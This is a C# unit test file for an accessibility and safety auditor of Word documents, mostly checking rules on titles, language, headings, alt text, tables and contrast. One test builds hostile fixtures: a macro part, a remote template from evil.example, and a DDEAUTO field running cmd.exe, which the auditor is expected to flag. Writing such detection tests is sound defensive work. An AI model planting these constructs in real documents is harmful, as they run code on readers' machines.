using System.IO.Compression;
using System.Text;
using AuditService.Collectors.Documents;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using static AuditService.Tests.Collectors.Documents.SomeWord;

namespace AuditService.Tests.Collectors.Documents;

public sealed class WordTests
{
    [Fact]
    public void No_rule_speaks_on_a_clean_document() => Readings.Read(Clean()).SaysNothing();

    [Fact]
    public void Title_language_words_and_outline_are_taken()
    {
        var reading = Readings.Read(Clean());

        Assert.Equal(DocumentKind.Docx, reading.Format);
        Assert.Equal("Rapport du projet de tri des courriers", reading.Title);
        Assert.Equal("fr-FR", reading.DeclaredLanguage);
        Assert.Equal("fr", reading.DetectedLanguage);
        Assert.Equal(["1 Introduction", "2 Méthode retenue", "1 Résultats"], reading.Outline.Select(h => $"{h.Level} {h.Text}"));
        Assert.Equal(84, reading.Words);
    }

    [Fact]
    public void Places_are_paragraphs_and_tables_that_a_reviewer_can_count()
    {
        var reading = Readings.Read(Clean());

        Assert.Equal("§ 2", reading.Paragraphs.First(p => p.Role == ParagraphRole.Body).Place.ToString());
        Assert.StartsWith("table 1, § ", reading.Paragraphs.First(p => p.Role == ParagraphRole.TableCell).Place.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("Document1")]
    [InlineData("rapport_final_v2.docx")]
    [InlineData("Présentation PowerPoint")]
    public void A_title_is_set_and_no_default(string? title) =>
        Readings.Read(With(d => d.PackageProperties.Title = title)).Only("OFF-01");

    [Fact]
    public void A_document_without_any_language_fails()
    {
        var observation = Readings.Read(With(d => d.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Descendants<Languages>().Single().Remove())).Only("OFF-02");

        Assert.Equal(ObservationOutcome.Fail, observation.Outcome);
    }

    [Fact]
    public void A_document_marked_in_another_language_than_it_reads_is_for_review()
    {
        var observation = Readings.Read(With(d => d.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Descendants<Languages>().Single().Val = "en-US")).Only("OFF-02");

        Assert.Equal(ObservationOutcome.Review, observation.Outcome);
    }

    [Fact]
    public void The_language_of_the_runs_wins_over_that_of_the_defaults()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Descendants<Languages>().Single().Val = "en-US";
            foreach (var run in d.MainDocumentPart.Document!.Descendants<Run>())
                run.PrependChild(new RunProperties(new Languages { Val = "fr-FR" }));
        }));

        reading.SaysNothing();
        Assert.Equal("fr-FR", reading.DeclaredLanguage);
    }

    [Fact]
    public void Where_one_passage_is_marked_with_its_language_the_default_is_what_is_wrong()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Descendants<Languages>().Single().Val = "en-US";
            d.MainDocumentPart.Document!.Body!.Append(Text(French, null, new Languages { Val = "fr-FR" }), Text(French), Text(French), Text(French), Text(French));
        }));

        Assert.Equal("marked en, reads like fr", reading.Only("OFF-02").Detail.En);
        Assert.Equal("en-US", reading.DeclaredLanguage);
    }

    [Fact]
    public void Where_only_a_passage_is_marked_the_missing_default_is_what_is_told()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Descendants<Languages>().Single().Remove();
            d.MainDocumentPart.Document!.Body!.Append(Text(French, null, new Languages { Val = "fr-FR" }), Text(French), Text(French), Text(French), Text(French));
        }));

        Assert.Contains("the document has no default", reading.Only("OFF-02").Detail.En, StringComparison.Ordinal);
    }

    [Fact]
    public void Passages_in_several_other_languages_are_told_each_and_not_as_one_wrong_default()
    {
        const string German = "Die Anwendung hilft den Mitarbeitern der Gemeinde dabei, die eingehenden Schreiben schneller und ohne Fehler an die richtige Abteilung weiterzuleiten, und sie zeigt immer, warum sie es so entschieden hat.";

        var reading = Readings.Read(Ending(Text(German), Text(German), Text(German), Text(English), Text(English), Text(English)));

        Assert.Equal(["OFF-03"], reading.Rules().Distinct());
        Assert.Contains("reads like de", string.Join(' ', reading.Observations.Select(observation => observation.Detail.En)), StringComparison.Ordinal);
    }

    [Fact]
    public void A_passage_in_another_language_is_marked()
    {
        Readings.Read(Ending(Text(English))).Only("OFF-03");
        Readings.Read(Ending(Text(English, null, new Languages { Val = "en-GB" }))).SaysNothing();
    }

    [Fact]
    public void A_long_text_without_headings_warns_and_a_letter_does_not()
    {
        var letter = With(d =>
        {
            foreach (var heading in d.MainDocumentPart!.Document!.Descendants<ParagraphStyleId>().ToList())
                heading.Remove();
        });
        var report = With(d =>
        {
            foreach (var heading in d.MainDocumentPart!.Document!.Descendants<ParagraphStyleId>().ToList())
                heading.Remove();
            d.MainDocumentPart.Document.Body!.Append(Enumerable.Range(0, 30).Select(_ => Text(French)));
        });

        Readings.Read(letter).SaysNothing();
        Readings.Read(report).Only("OFF-04");
    }

    [Fact]
    public void Headings_skip_no_level()
    {
        var observation = Readings.Read(Ending(Heading(3, "Détail"), Text(French))).Only("OFF-05");

        Assert.Equal(ObservationOutcome.Warn, observation.Outcome);
    }

    [Fact]
    public void Headings_may_go_back_up_several_levels() =>
        Readings.Read(Ending(Heading(2, "Chiffres"), Heading(3, "Détail"), Text(French), Heading(1, "Conclusion"), Text(French))).SaysNothing();

    [Fact]
    public void An_empty_heading_fails() => Assert.Equal(ObservationOutcome.Fail, Readings.Read(Ending(Heading(2, " "))).Only("OFF-05").Outcome);

    [Fact]
    public void A_heading_inside_a_table_warns()
    {
        var table = Table(header: true, borders: true, ["Critère", "Note"], ["C17", "12"]);
        table.Descendants<TableCell>().Last().Append(Heading(2, "Note finale"));

        Readings.Read(Ending(table)).Only("OFF-05");
    }

    [Fact]
    public void A_heading_by_outline_level_alone_is_a_heading()
    {
        var paragraph = Text("Annexe");
        paragraph.ParagraphProperties = new ParagraphProperties(new OutlineLevel { Val = 0 });

        Assert.Contains(Readings.Read(Ending(paragraph, Text(French))).Outline, h => h is { Level: 1, Text: "Annexe" });
    }

    [Fact]
    public void A_short_bold_paragraph_before_text_looks_like_a_heading()
    {
        Readings.Read(Ending(Text("Limites de la méthode", null, new Bold()), Text(French))).Only("OFF-06");
        Readings.Read(Ending(Text("Limites de la méthode", null, new FontSize { Val = "32" }), Text(French))).Only("OFF-06");
        Readings.Read(Ending(Text("Objet : candidature", null, new Bold()), Text(French))).SaysNothing();
        Readings.Read(Ending(Text("Important, à lire avant de commencer.", null, new Bold()), Text(French))).SaysNothing();
    }

    [Fact]
    public void An_image_without_alternative_fails_unless_decorative_or_a_line()
    {
        Assert.Equal(ObservationOutcome.Fail, Readings.Read(Ending(Picture("title=\"\""))).Only("OFF-08").Outcome);
        Readings.Read(Ending(Picture(string.Empty, decorative: true))).SaysNothing();
        var line = Picture(string.Empty);
        line.Descendants<DocumentFormat.OpenXml.Drawing.Wordprocessing.Extent>().Single().Cy = 12_700;
        Readings.Read(Ending(line)).SaysNothing();
    }

    [Theory]
    [InlineData("IMG_2041.JPG")]
    [InlineData("image 3")]
    [InlineData("Une image contenant texte. Description générée automatiquement")]
    [InlineData("Courbe")]
    public void A_poor_alternative_is_for_review(string alternative) => Readings.Read(Ending(Picture($"descr=\"{alternative}\""))).Only("OFF-09");

    [Fact]
    public void A_data_table_without_header_row_fails_and_a_layout_table_does_not()
    {
        Assert.Equal("table 2", Readings.Read(Ending(Table(header: false, borders: true, ["a", "b"], ["c", "d"]))).Only("OFF-10").Sightings[0].Place.Part);
        Readings.Read(Ending(Table(header: false, borders: true, ["une seule", "ligne"]))).SaysNothing();
        Readings.Read(Ending(Table(header: false, borders: true, ["une seule"], ["colonne"]))).SaysNothing();
    }

    [Fact]
    public void Merged_cells_warn()
    {
        var table = Table(header: true, borders: true, ["a", "b"], ["c", "d"]);
        table.Descendants<TableCell>().Last().TableCellProperties = new TableCellProperties(new VerticalMerge { Val = MergedCellValues.Restart });

        Readings.Read(Ending(table)).Only("OFF-11");
    }

    [Fact]
    public void A_borderless_grid_of_prose_seems_a_layout() =>
        Readings.Read(Ending(Table(header: false, borders: false, [French + " " + French + " " + French, "à droite"], ["en bas", "fin"]))).Only("OFF-12");

    [Fact]
    public void A_signature_block_is_a_layout_and_a_table_of_amounts_without_lines_is_data()
    {
        Readings.Read(Ending(Table(header: false, borders: false, ["Pour la commune", "Pour le prestataire"], ["Le maire", "La directrice"]))).Only("OFF-12");
        Readings.Read(Ending(Table(header: false, borders: false, ["Poste", "Montant"], ["Serveur", "1 200 €"], ["Audit", "3 400 €"]))).Only("OFF-10");
    }

    [Fact]
    public void Text_over_a_picture_that_lies_behind_it_stands_on_no_certain_colour()
    {
        var behind = new Paragraph(Picture("descr=\"Façade de la mairie au printemps\"", "anchor").OuterXml.Replace("<wp:anchor", "<wp:anchor behindDoc=\"1\"", StringComparison.Ordinal));

        Assert.DoesNotContain("OFF-13", Readings.Read(Ending(behind, Text("Titre blanc", null, new Color { Val = "FFFFFF" }))).Rules());
    }

    [Fact]
    public void Contrast_fails_only_when_both_colours_are_certain()
    {
        var shaded = Text("Texte", null, new Color { Val = "777777" }, new Shading { Val = ShadingPatternValues.Clear, Fill = "999999" });

        Assert.Equal(ObservationOutcome.Fail, Readings.Read(Ending(Text("Texte pâle", null, new Color { Val = "CCCCCC" }))).Only("OFF-13").Outcome);
        Readings.Read(Ending(shaded)).Only("OFF-13");
        Readings.Read(Ending(Text("Texte", null, new Color { Val = "auto" }))).SaysNothing();
        Readings.Read(Ending(Text("Grand titre", null, new Color { Val = "888888" }, new FontSize { Val = "40" }))).SaysNothing();
        Readings.Read(With(d =>
        {
            d.MainDocumentPart!.Document!.DocumentBackground = new DocumentBackground { Color = "000000" };
            d.MainDocumentPart.Document.Body!.Append(Text("Texte clair", null, new Color { Val = "EEEEEE" }));
        })).SaysNothing();
    }

    [Fact]
    public void A_floating_picture_is_for_review() => Readings.Read(Ending(Picture("descr=\"Plan du bâtiment vu du ciel\"", "anchor"))).Only("OFF-14");

    [Theory]
    [InlineData("ici")]
    [InlineData("Cliquez ici.")]
    [InlineData("https://example.org/page")]
    [InlineData("En savoir plus »")]
    public void A_link_text_says_where_it_leads(string text) =>
        Readings.Read(With(d => d.MainDocumentPart!.Document!.Body!.Append(Link(d, text, "https://example.org/page")))).Only("OFF-15");

    [Fact]
    public void A_link_without_text_warns() =>
        Readings.Read(With(d => d.MainDocumentPart!.Document!.Body!.Append(Link(d, "", "https://example.org/page")))).Only("OFF-15");

    [Fact]
    public void A_telling_link_text_is_fine() =>
        Readings.Read(With(d => d.MainDocumentPart!.Document!.Body!.Append(Link(d, "le guide du RGPD", "https://example.org/page")))).SaysNothing();

    [Fact]
    public void Lines_of_one_paragraph_typed_as_a_list_warn()
    {
        Assert.Contains("2 lines of a paragraph", Readings.Read(Ending(Lines("Trois points :", "- un point ;", "- un autre."))).Only("OFF-16").Detail.En, StringComparison.Ordinal);
        Readings.Read(Ending(Lines("12 rue des Lilas", "35000 Rennes"))).SaysNothing();
        Readings.Read(Ending(Lines("– Bonjour, dit-elle.", "– Bonjour, répondit-il."))).SaysNothing();

        static Paragraph Lines(params string[] lines)
        {
            var run = new Run();
            foreach (var line in lines)
            {
                if (run.HasChildren)
                    run.AppendChild(new Break());
                run.AppendChild(new DocumentFormat.OpenXml.Wordprocessing.Text(line));
            }

            return new Paragraph(run);
        }
    }

    [Fact]
    public void A_quotation_in_another_language_inside_a_paragraph_is_for_review_unless_it_is_marked()
    {
        const string Around = "Le rapport de la mission le dit avec les mots de ses auteurs et nous les citons ici pour que chacun puisse en juger : « ";
        const string English = "the project was led by the city and it has been used by the agents who sort the letters that they receive from all of the people";

        Assert.Contains("reads like en", Readings.Read(Ending(Quoting(null))).Only("OFF-03").Detail.En, StringComparison.Ordinal);
        Readings.Read(Ending(Quoting("en-GB"))).SaysNothing();

        static Paragraph Quoting(string? language) => new(Run(Around, null), Run(English, language), Run(" ». Nous avons donc retenu cette solution pour la mairie et pour les agents qui sont au guichet.", null));

        static Run Run(string text, string? language)
        {
            var run = new Run();
            if (language is not null)
                run.AppendChild(new RunProperties(new Languages { Val = language }));
            run.AppendChild(new DocumentFormat.OpenXml.Wordprocessing.Text(text) { Space = DocumentFormat.OpenXml.SpaceProcessingModeValues.Preserve });
            return run;
        }
    }

    [Fact]
    public void Typed_lists_warn()
    {
        Readings.Read(Ending(Text("- un point"), Text("- un autre"))).Only("OFF-16");
        Readings.Read(Ending(Text("1. un point"), Text("2. un autre"))).Only("OFF-16");
        Readings.Read(Ending(Text("a) un point"), Text("b) un autre"))).Only("OFF-16");
        Readings.Read(Ending(Text("- un seul tiret"), Text("puis du texte"))).SaysNothing();
        Readings.Read(Ending(Text("– Bonjour, dit-elle."), Text("– Bonjour, répondit-il."))).SaysNothing();
        Readings.Read(Ending(Text("– un point ;"), Text("– un autre."))).Only("OFF-16");
    }

    [Fact]
    public void Layout_is_not_made_of_blanks()
    {
        Readings.Read(Ending(Text(""), Text(""), Text(" "), Text("fin"))).Only("OFF-17");
        Readings.Read(Ending(Text("Nom        Prénom"))).Only("OFF-17");
        Readings.Read(Ending(Text("Nom\t\t\tMartin"), Text("Ville\t\tValbourg"), Text("Date\t\t3 mars"))).Only("OFF-17");
        Readings.Read(Ending(Text(""), Text(""), Text("fin"))).SaysNothing();
    }

    [Fact]
    public void Restricted_editing_warns()
    {
        var reading = Readings.Read(With(d => d.MainDocumentPart!.DocumentSettingsPart!.Settings!.Append(
            new DocumentProtection { Edit = DocumentProtectionValues.ReadOnly, Enforcement = true })));

        reading.Only("OFF-19");
        Assert.True(reading.Protected);
    }

    [Fact]
    public void Animated_text_warns() => Readings.Read(Ending(Text("Urgent", null, new TextEffect { Val = TextEffectValues.BlinkBackground }))).Only("OFF-20");

    [Fact]
    public void A_long_document_has_a_table_of_contents()
    {
        var pages = With(d => d.AddExtendedFilePropertiesPart().Properties = new DocumentFormat.OpenXml.ExtendedProperties.Properties(
            new DocumentFormat.OpenXml.ExtendedProperties.Pages("14")));
        var withContents = With(d =>
        {
            d.AddExtendedFilePropertiesPart().Properties = new DocumentFormat.OpenXml.ExtendedProperties.Properties(new DocumentFormat.OpenXml.ExtendedProperties.Pages("14"));
            d.MainDocumentPart!.Document!.Body!.PrependChild(new Paragraph(
                new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }), new Run(new FieldCode(" TOC \\o \"1-3\" ")),
                new Run(new FieldChar { FieldCharType = FieldCharValues.Separate }), new Run(new Text("Introduction 1")),
                new Run(new FieldChar { FieldCharType = FieldCharValues.End })));
        });

        var reading = Readings.Read(pages);
        reading.Only("OFF-21");
        Assert.Equal(14, reading.Pages);
        Assert.True(reading.PagesAreSaved);
        Readings.Read(withContents).SaysNothing();
    }

    [Fact]
    public void Field_codes_and_deleted_text_are_no_content_and_results_are()
    {
        var reading = Readings.Read(Ending(
            new Paragraph(
                new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }), new Run(new FieldCode(" AUTHOR secret-code ")),
                new Run(new FieldChar { FieldCharType = FieldCharValues.Separate }), new Run(new Text("résultat visible")),
                new Run(new FieldChar { FieldCharType = FieldCharValues.End })),
            new Paragraph(new DeletedRun(new Run(new DeletedText("texte supprimé"))), new InsertedRun(new Run(new Text("texte inséré"))))));

        Assert.Contains(reading.Paragraphs, p => p.Text == "résultat visible");
        Assert.Contains(reading.Paragraphs, p => p.Text == "texte inséré");
        Assert.DoesNotContain(reading.Paragraphs, p => p.Text.Contains("secret-code", StringComparison.Ordinal) || p.Text.Contains("supprimé", StringComparison.Ordinal));
        Assert.Equal("DOC-12", Assert.Single(reading.Observations).Rule);
    }

    [Fact]
    public void A_text_box_written_twice_is_read_once()
    {
        var box = new Paragraph(
            """
            <w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"
                 xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"
                 xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:v="urn:schemas-microsoft-com:vml">
              <w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><wp:docPr id="7" name="Zone"/><a:graphic><a:graphicData uri="wps"><wps:wsp><wps:txbx><w:txbxContent>
              <w:p><w:r><w:t>dans le cadre</w:t></w:r></w:p></w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice>
              <mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:t>dans le cadre</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>
            </w:p>
            """);

        var reading = Readings.Read(Ending(box));

        Assert.Equal(ParagraphRole.Frame, Assert.Single(reading.Paragraphs, p => p.Text == "dans le cadre").Role);
        reading.SaysNothing();
    }

    [Fact]
    public void Hidden_text_and_comments_are_kept_apart_and_prove_nothing()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.Document!.Body!.Append(Text("mention cachée", null, new Vanish()));
            d.MainDocumentPart.AddNewPart<WordprocessingCommentsPart>().Comments = new Comments(new Comment(Text("à revoir")) { Id = "0" });
        }));

        Assert.False(Assert.Single(reading.Paragraphs, p => p.Text == "mention cachée").IsShown);
        Assert.False(Assert.Single(reading.Paragraphs, p => p.Text == "à revoir").IsShown);
        Assert.Equal(["DOC-11", "DOC-12"], reading.Rules());
    }

    [Fact]
    public void Notes_headers_and_footers_are_read()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.AddNewPart<FootnotesPart>().Footnotes = new Footnotes(
                new Footnote(Text("trait")) { Id = -1, Type = FootnoteEndnoteValues.Separator }, new Footnote(Text("Voir l'annexe.")) { Id = 2 });
            d.MainDocumentPart.AddNewPart<HeaderPart>().Header = new Header(Text("Projet de tri"));
        }));

        Assert.Equal(ParagraphRole.Note, Assert.Single(reading.Paragraphs, p => p.Text == "Voir l'annexe.").Role);
        Assert.DoesNotContain(reading.Paragraphs, p => p.Text == "trait");
        Assert.False(Assert.Single(reading.Paragraphs, p => p.Role == ParagraphRole.HeaderOrFooter).IsCounted);
        reading.SaysNothing();
    }

    [Fact]
    public void Strict_documents_are_read_like_transitional_ones()
    {
        var reading = Readings.Read(Rewritten(Clean(), static xml => xml
            .Replace("http://schemas.openxmlformats.org/wordprocessingml/2006/main", "http://purl.oclc.org/ooxml/wordprocessingml/main", StringComparison.Ordinal)
            .Replace("http://schemas.openxmlformats.org/drawingml/2006/main", "http://purl.oclc.org/ooxml/drawingml/main", StringComparison.Ordinal)
            .Replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships", "http://purl.oclc.org/ooxml/officeDocument/relationships", StringComparison.Ordinal)));

        reading.SaysNothing();
        Assert.Equal(3, reading.Outline.Count);
    }

    [Fact]
    public void Macros_external_templates_and_calls_of_programs_are_observed()
    {
        var reading = Readings.Read(With(d =>
        {
            d.MainDocumentPart!.AddNewPart<VbaProjectPart>().FeedData(new MemoryStream([1, 2, 3]));
            d.MainDocumentPart.DocumentSettingsPart!.AddExternalRelationship(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/modele.dotm"));
            d.MainDocumentPart.Document!.Body!.Append(new Paragraph(new SimpleField(new Run(new Text("x"))) { Instruction = "DDEAUTO cmd.exe \"/c calc\"" }));
        }));

        Assert.True(reading.HasMacros);
        Assert.Equal(["DOC-02", "DOC-03", "DOC-05"], reading.Rules());
        Assert.All(reading.Observations, o => Assert.Equal(ObservationConcern.ActiveContent, o.Concern));
    }

    [Fact]
    public void A_fault_repeated_a_hundred_times_is_one_observation_with_ten_places()
    {
        var observation = Readings.Read(With(d =>
        {
            for (var i = 0; i < 100; i++)
                d.MainDocumentPart!.Document!.Body!.Append(Picture(string.Empty), Text(French));
        })).Only("OFF-08");

        Assert.Equal(100, observation.Count);
        Assert.Equal(10, observation.Sightings.Count);
    }

    [Fact]
    public void Personal_data_never_stand_in_an_observation()
    {
        var reading = Readings.Read(Ending(Heading(3, "Contact de jeanne.dupont@example.org au 06 12 34 56 78"), Text(French)));

        Assert.DoesNotContain("dupont", reading.Only("OFF-05").Detail.Fr, StringComparison.Ordinal);
        Assert.DoesNotContain("34 56", reading.Only("OFF-05").Detail.En, StringComparison.Ordinal);
    }

    private static byte[] Rewritten(byte[] package, Func<string, string> change)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            foreach (var entry in archive.Entries.ToList())
            {
                string text;
                using (var reader = new StreamReader(entry.Open()))
                    text = change(reader.ReadToEnd());
                entry.Delete();
                using var writer = new StreamWriter(archive.CreateEntry(entry.FullName).Open(), new UTF8Encoding(false));
                writer.Write(text);
            }
        }

        return stream.ToArray();
    }
}
